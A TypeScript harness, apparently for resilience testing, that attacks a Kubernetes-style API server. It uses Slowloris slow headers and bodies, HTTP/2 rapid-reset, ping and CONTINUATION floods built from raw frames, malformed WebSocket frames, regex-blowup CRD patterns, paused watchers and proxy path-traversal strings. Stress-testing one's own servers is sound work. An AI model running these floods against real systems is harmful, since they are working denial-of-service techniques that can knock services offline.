/** Clients that mean harm, each within what a server must bear. All go on until they are stopped. */
import { connect as connectHttp2 } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect, type TLSSocket } from 'node:tls';
import { definitionOf, heavyYaml, largeDefinitions } from '../watchdog/heavy-requests.ts';

/** Where the server is, and the credentials of the clients. */
export interface Target {
  readonly url: string;
  readonly ca: string;
  readonly token: string;
}

/** Sends one request on a connection of its own; the status, or 0 where the server closed before it answered. */
type Send = (method: string, path: string, contentType: string, body: string | Buffer) => Promise<number>;

interface Attack {
  readonly target: Target;
  readonly signal: AbortSignal;
  readonly send: Send;
}

const configMaps = '/api/v1/namespaces/default/configmaps';
const definitions = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions';
const widgets = '/apis/heavy.example.com/v1/namespaces/default/hostiles';
const json = 'application/json';

/** By name: each does one round of harm. */
const rounds: Readonly<Record<string, (attack: Attack, round: number) => Promise<void>>> = {
  async badYaml({ send }, round) {
    const bodies = heavyYaml();
    const { path, body = '' } = bodies[round % bodies.length] ?? { path: '/' };
    await send('POST', path, 'application/yaml', body);
  },

  async definitions({ send }, round) {
    const all = largeDefinitions(40);
    const { body = '' } = all[round % all.length] ?? {};
    await send('POST', definitions, json, body);
    if (round % 40 === 39) await send('DELETE', `${definitions}?labelSelector=!keep`, json, '');
  },

  async pausedWatchers(attack, round) {
    const sockets = await Promise.all(
      Array.from({ length: 50 }, async () => request(attack.target, 'GET', `${configMaps}?watch=true`)),
    );
    for (const socket of sockets) socket.pause();
    for (let n = 0; n < 20 && !attack.signal.aborted; n++) {
      const data = { text: `${round} ${n} ${'x'.repeat(50_000)}` };
      const body = JSON.stringify({ data });
      await attack.send('PATCH', `${configMaps}/watched`, 'application/merge-patch+json', body);
    }
    for (const socket of sockets) socket.destroy();
  },

  async patterns({ send }, round) {
    const text = 'abcd'.repeat(25_000);
    const object = { apiVersion: 'heavy.example.com/v1', kind: 'Hostile', metadata: { generateName: 'p-' } };
    await send(
      'POST',
      widgets,
      json,
      JSON.stringify({ ...object, texts: Array.from({ length: 20 }, () => text) }),
    );
    const properties = Object.fromEntries(
      Array.from({ length: 20 }, (_, i) => [
        `p${i}`,
        { type: 'string', pattern: `(a|b|c|d){1000}${round}${i}` },
      ]),
    );
    await send('POST', definitions, json, JSON.stringify(definitionOf('refuseds', 'Refused', properties)));
  },

  async slowHeaders({ target, signal }) {
    const socket = await open(target);
    socket.write(`GET ${configMaps} HTTP/1.1\r\n`);
    while (!signal.aborted && socket.writable) {
      socket.write('X-A: b\r\n');
      await sleep(500);
    }
    socket.destroy();
  },

  async slowBodies({ target, signal }) {
    const socket = await request(
      target,
      'POST',
      configMaps,
      'Content-Type: application/json',
      'Content-Length: 3000000',
    );
    while (!signal.aborted && socket.writable) {
      socket.write(' ');
      await sleep(500);
    }
    socket.destroy();
  },

  async connections({ target }) {
    const sockets = await Promise.all(Array.from({ length: 20 }, async () => open(target)));
    await sleep(100);
    for (const socket of sockets) socket.destroy();
  },

  async http2Floods({ target }, round) {
    const socket = await open(target, ['h2']);
    socket.write(http2.preface);
    const flood = http2.floods[round % http2.floods.length];
    // Answers are not read.
    for (let n = 0; n < 20_000 && socket.writable; n += 100) {
      const frames = Buffer.concat(Array.from({ length: 100 }, (_, i) => flood?.(n + i) ?? http2.settings));
      if (!socket.write(frames)) await Promise.race([drained(socket), closed(socket), sleep(200)]);
    }
    socket.destroy();
  },

  async pausedHttp2Watchers({ target, send }, round) {
    const client = connectHttp2(target.url, { ca: target.ca });
    client.on('error', () => undefined);
    for (let n = 0; n < 100; n++) {
      const headers = { ':path': `${configMaps}?watch=true`, authorization: `Bearer ${target.token}` };
      client.request(headers).on('error', () => undefined);
    }
    const data = { text: `${round} ${'x'.repeat(50_000)}` };
    await send('PATCH', `${configMaps}/watched`, 'application/merge-patch+json', JSON.stringify({ data }));
    await sleep(200);
    client.destroy();
  },

  async webSockets({ target, send }, round) {
    const upgrade = ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13'];
    const key = `Sec-WebSocket-Key: ${Buffer.alloc(16, round).toString('base64')}`;
    const path = `${configMaps}?watch=true`;
    const sockets = await Promise.all(
      Array.from({ length: 20 }, async () => request(target, 'GET', path, ...upgrade, key)),
    );
    // Masked, of 2^63 - 1 bytes; without a mask; nothing of the kind.
    const frames = ['82ffffffffffffffffff01020304', '8203010203', 'ffffffff', '8980', '8880', '0180'];
    for (const [i, socket] of sockets.entries()) {
      socket.pause();
      socket.write(Buffer.from(frames[i % frames.length] ?? '', 'hex'));
    }
    const data = { text: `${round} ${'y'.repeat(50_000)}` };
    await send('PATCH', `${configMaps}/watched`, 'application/merge-patch+json', JSON.stringify({ data }));
    await sleep(100);
    for (const socket of sockets) socket.destroy();
  },

  async proxiedNonsense({ target, send }, round) {
    const paths = [
      '/api/v1/namespaces/default/services/kubernetes:https/proxy/../../x',
      '/api/v1/namespaces/default/pods/none:99999/proxy/%2e%2e/%00',
      `/api/v1/namespaces/default/services/${'x'.repeat(1000)}:${round}/proxy/${'a/'.repeat(1000)}`,
      '/api/v1/nodes/none/proxy/',
    ];
    for (const path of paths) await send('POST', path, 'x/y', 'x'.repeat(10_000));
    const socket = await request(target, 'GET', paths[0] ?? '/', 'Connection: Upgrade', 'Upgrade: nonsense');
    socket.write(Buffer.alloc(10_000, 0xff));
    await sleep(20);
    socket.destroy();
  },
};

/** A frame of HTTP/2 (RFC 9113, 4.1). */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** `:method GET`, `:scheme https`, `:path /`, by the static table, and an `:authority`. */
const head = Buffer.from([0x82, 0x87, 0x84, 0x01, 0x01, 0x61]);
const settings = frame(4, 0, 0, Buffer.alloc(0));

/** What clients of HTTP/2 send that mean harm. */
export const http2 = {
  preface: Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), settings]),
  settings,
  head,
  frame,
  /** The n-th frames of a flood: resets, pings, CONTINUATION, heads that never end. */
  floods: [
    (n: number) => Buffer.concat([frame(1, 5, 2 * n + 1, head), frame(3, 0, 2 * n + 1, Buffer.alloc(4))]),
    () => frame(6, 0, 0, Buffer.alloc(8)),
    (n: number) => (n === 0 ? frame(1, 0, 1, head) : frame(9, 0, 1, Buffer.from([0x82]))),
    (n: number) => (n === 0 ? frame(1, 0, 1, head) : frame(9, 0, 1, Buffer.alloc(16_384, 0x82))),
  ],
} as const;

/** How many of each work at the same time. */
const parallel: Readonly<Record<string, number>> = { badYaml: 2, slowHeaders: 20, slowBodies: 20 };
/** Milliseconds between two rounds of one client. */
const pause = 50;

/** Attacks until `signal` is aborted. @returns the rounds of each kind of client */
export async function attack(target: Target, signal: AbortSignal): Promise<Record<string, number>> {
  const done: Record<string, number> = {};
  const send: Send = async (method, path, contentType, body) => {
    const headers = [
      `Content-Type: ${contentType}`,
      `Content-Length: ${Buffer.byteLength(body)}`,
      'Connection: close',
    ];
    const socket = await request(target, method, path, ...headers);
    socket.write(body);
    let answer = '';
    socket.on('data', (chunk: Buffer) => (answer ||= chunk.toString('latin1', 0, 20)));
    if (!socket.closed) await closed(socket);
    return Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1] ?? 0);
  };
  const texts = { type: 'array', items: { type: 'string', pattern: '(a|b|c|d){1000}x' } };
  await send('POST', definitions, json, JSON.stringify(definitionOf('hostiles', 'Hostile', { texts })));
  await send('POST', configMaps, json, JSON.stringify({ metadata: { name: 'watched' } }));
  const client = async (name: string, round: (attack: Attack, n: number) => Promise<void>): Promise<void> => {
    for (let n = 0; !signal.aborted; n++) {
      await round({ target, signal, send }, n);
      done[name] = (done[name] ?? 0) + 1;
      await sleep(pause);
    }
  };
  await Promise.all(
    Object.entries(rounds).flatMap(([name, round]) =>
      Array.from({ length: parallel[name] ?? 1 }, async () => client(name, round)),
    ),
  );
  return done;
}

/** Other than `once` of node:events, which rejects when an error comes first. */
async function closed(socket: TLSSocket): Promise<void> {
  return new Promise((resolve) => socket.once('close', () => resolve()));
}

async function drained(socket: TLSSocket): Promise<void> {
  return new Promise((resolve) => socket.once('drain', () => resolve()));
}

async function open({ url, ca }: Target, protocols: string[] = ['http/1.1']): Promise<TLSSocket> {
  const { hostname, port } = new URL(url);
  const socket = connect({ host: hostname, port: Number(port), ca, ALPNProtocols: protocols });
  // A reset is an answer, too.
  socket.on('error', () => undefined);
  const connected = new Promise((resolve) => socket.once('secureConnect', resolve));
  await Promise.race([connected, closed(socket)]);
  return socket;
}

async function request(
  target: Target,
  method: string,
  path: string,
  ...headers: string[]
): Promise<TLSSocket> {
  const socket = await open(target);
  const head = [
    `${method} ${path} HTTP/1.1`,
    `Host: ${new URL(target.url).host}`,
    `Authorization: Bearer ${target.token}`,
  ];
  socket.write([...head, ...headers, '', ''].join('\r\n'));
  return socket;
}
